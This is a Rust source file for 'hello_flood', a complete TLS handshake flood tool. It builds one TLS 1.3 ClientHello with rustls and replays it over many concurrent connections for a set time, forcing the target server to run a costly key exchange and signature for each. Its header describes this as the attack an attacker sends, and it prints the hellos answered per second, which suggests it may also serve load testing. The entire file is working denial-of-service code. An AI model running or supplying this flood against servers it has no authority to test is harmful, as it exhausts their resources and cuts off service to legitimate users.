//! A TLS handshake flood, as an attacker sends it: one ClientHello, made
//! once, replayed on new connections as fast as the server answers. The
//! server pays for a key exchange and a signature per hello; the flood pays
//! for a connect and a write. Each connection reads the server's first
//! flight (or waits a second for it) and closes. Bounded by time.
//!
//!     hello_flood ADDR SERVER_NAME CONNECTIONS SECONDS
//!
//! Prints the hellos answered per second.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let [addr, name, conns, secs] = args.as_slice() else {
        return Err("usage: hello_flood ADDR SERVER_NAME CONNECTIONS SECONDS".into());
    };
    let (addr, conns): (std::net::SocketAddr, usize) = (addr.parse()?, conns.parse()?);
    let deadline = Instant::now() + Duration::from_secs(secs.parse()?);
    let hello = Arc::new(client_hello(name)?);
    let answered = Arc::new(AtomicU64::new(0));
    let started = Instant::now();
    tokio::runtime::Builder::new_current_thread().enable_all().build()?.block_on(async {
        let mut tasks = tokio::task::JoinSet::new();
        for _ in 0..conns {
            let (hello, answered) = (Arc::clone(&hello), Arc::clone(&answered));
            tasks.spawn(async move {
                let mut buf = vec![0u8; 16 * 1024];
                while Instant::now() < deadline {
                    let Ok(mut s) = tokio::net::TcpStream::connect(addr).await else { continue };
                    if s.write_all(&hello).await.is_err() {
                        continue;
                    }
                    let read = tokio::time::timeout(Duration::from_secs(1), s.read(&mut buf)).await;
                    if matches!(read, Ok(Ok(n)) if n > 0) {
                        answered.fetch_add(1, Ordering::Relaxed);
                    }
                }
            });
        }
        while tasks.join_next().await.is_some() {}
    });
    let n = answered.load(Ordering::Relaxed);
    println!("{n} hellos answered, {:.0}/s", n as f64 / started.elapsed().as_secs_f64());
    Ok(())
}

/// The bytes of a TLS 1.3 ClientHello for `name`, as rustls would send it.
fn client_hello(name: &str) -> Result<Vec<u8>, Box<dyn std::error::Error>> {
    let config = rustls::ClientConfig::builder_with_provider(Arc::new(rustls::crypto::ring::default_provider()))
        .with_safe_default_protocol_versions()?
        .with_root_certificates(rustls::RootCertStore::empty())
        .with_no_client_auth();
    let mut conn = rustls::ClientConnection::new(Arc::new(config), name.to_string().try_into()?)?;
    let mut out = Vec::new();
    while conn.wants_write() {
        conn.write_tls(&mut out)?;
    }
    Ok(out)
}
